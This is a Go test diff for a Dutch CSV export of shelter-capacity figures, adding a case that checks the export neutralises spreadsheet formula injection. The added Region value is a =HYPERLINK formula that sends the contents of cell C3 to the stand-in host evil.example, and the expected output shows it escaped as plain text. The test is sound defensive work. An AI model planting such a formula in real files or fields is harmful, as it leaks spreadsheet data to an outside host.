@@ -627,6 +627,9 @@ func TestPictureCSVInDutch(t *testing.T) {
 		Aggregates: []*pb.Aggregate{
 			{Kind: "shelter.capacity", Field: "beds_free", Region: "VR09", Sum: 3.5},
 			{Kind: "shelter.capacity", Field: "beds_free", Region: "NL", Sum: 1234.25},
+			// A region no node lets through any more (see peerclient.CheckShared); were one to
+			// come, the file keeps it text, not a formula a spreadsheet runs.
+			{Kind: "shelter.capacity", Field: "beds_free", Region: `=HYPERLINK("http://evil.example/x?"&C3,"Zie")`, Sum: 1},
 		},
 		Entries: []*pb.PictureEntry{
 			{Kind: "shelter.capacity", Record: &pb.Record{Id: "a", Kind: "shelter.capacity", Classification: pb.Classification_INTERNAL}},
@@ -653,7 +656,9 @@ func TestPictureCSVInDutch(t *testing.T) {
 	r.AddCookie(&http.Cookie{Name: s.sessionCookie(), Value: id})
 	w := httptest.NewRecorder()
 	s.ServeHTTP(w, r)
-	want := "\ufeffOEFENING;oef-1\nCode;Regio;Vrije opvangplaatsen\nVR09;VR09 Utrecht;3,5\nNL;Nederland (totaal);1234,25\n"
+	want := "\ufeffOEFENING;oef-1\nCode;Regio;Vrije opvangplaatsen\n" +
+		`"'=HYPERLINK(""http://evil.example/x?""&C3,""Zie"")";"'=HYPERLINK(""http://evil.example/x?""&C3,""Zie"")";1` + "\n" +
+		"VR09;VR09 Utrecht;3,5\nNL;Nederland (totaal);1234,25\n"
 	name := regexp.MustCompile(`^attachment; filename=OEFENING-oef-1-beeld-oekraine-INTERN-\d{4}-\d\d-\d\dT\d{4}\.csv$`)
 	if w.Code != http.StatusOK || w.Body.String() != want || !name.MatchString(w.Header().Get("Content-Disposition")) {
 		t.Errorf("the CSV: %d %q\n%q\nwant %q", w.Code, w.Header().Get("Content-Disposition"), w.Body.String(), want)
